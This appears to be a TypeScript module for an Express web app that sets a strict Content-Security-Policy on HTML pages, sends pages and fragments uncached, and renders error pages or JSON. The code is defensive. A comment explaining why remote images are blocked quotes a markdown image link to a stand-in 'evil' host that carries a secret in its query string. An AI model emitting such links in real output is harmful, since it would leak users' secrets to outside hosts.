import type { Request, Response } from 'express';
import type { Logger } from 'pino';
import type { SessionPrincipal } from '../../domain/reviewers/sessions.js';
import { toAppError } from '../../http-common/problem.js';
import { render, type Template } from './render.js';
import { TEMPLATES } from './templates.js';
import { signedIn } from './view-models.js';

/**
 * Pages get a stricter policy than the API's: no inline styles either, no framing, no remote
 * images (agent-written markdown like ![](https://evil/?secret) cannot phone home), and fetch/SSE
 * to this origin only.
 */
export const PAGE_CSP = [
  "default-src 'none'",
  "script-src 'self'",
  "style-src 'self'",
  "img-src 'self'",
  "connect-src 'self'",
  "form-action 'self'",
  "base-uri 'none'",
  "frame-ancestors 'none'",
].join('; ');

/** A whole page: the page CSP, never cached (it shows one user's view). */
export function sendPage<View>(res: Response, page: Template<View>, view: NoInfer<View>, status = 200): void {
  res.status(status);
  res.setHeader('Content-Security-Policy', PAGE_CSP);
  res.setHeader('Cache-Control', 'no-store');
  res.type('html').send(render(page, view));
}

/** A piece of a page that the page's own script fetches and swaps in (the live board's columns). */
export function sendFragment<View>(res: Response, page: Template<View>, view: NoInfer<View>): void {
  res.setHeader('Cache-Control', 'no-store');
  res.type('html').send(render(page, view));
}

const HEADINGS: Partial<Record<ReturnType<typeof toAppError>['code'], string>> = {
  review_link_invalid: 'This link no longer works',
  invitation_invalid: 'This link no longer works',
  not_found: 'Page not found',
};

/** An unknown URL's message names no route or method: it is for a person, not a developer. */
const NOT_FOUND_TEXT = 'There is no page at this address. It may have been mistyped, or the page has moved.';

/**
 * A failed page request: a page that says what went wrong (with the error's status), or for a
 * script's request (Accept: JSON) `{ code, detail }`. Only unexpected errors are logged.
 */
export function sendError(
  req: Request,
  res: Response,
  error: unknown,
  web: SessionPrincipal | null,
  logger: Logger,
  options: { html?: boolean } = {},
): void {
  const appError = toAppError(error);
  if (appError.code === 'internal_error') (req.log ?? logger).error({ err: error }, 'page failed');
  if (res.headersSent) {
    res.end();
    return;
  }
  if (!options.html && req.accepts(['html', 'json']) === 'json') {
    res.status(appError.status).json({ code: appError.code, detail: appError.message });
    return;
  }
  const chrome = web ? signedIn(web) : { user: null, csrf: undefined };
  sendPage(
    res,
    TEMPLATES.message,
    {
      heading: HEADINGS[appError.code] ?? 'That did not work',
      text: options.html && appError.code === 'not_found' ? NOT_FOUND_TEXT : appError.message,
      kind: 'error',
      ...chrome,
      link:
        web || appError.code === 'not_found'
          ? { href: web ? '/board' : '/', label: web ? 'Back to the board' : 'Go to the start page' }
          : null,
    },
    appError.status,
  );
}
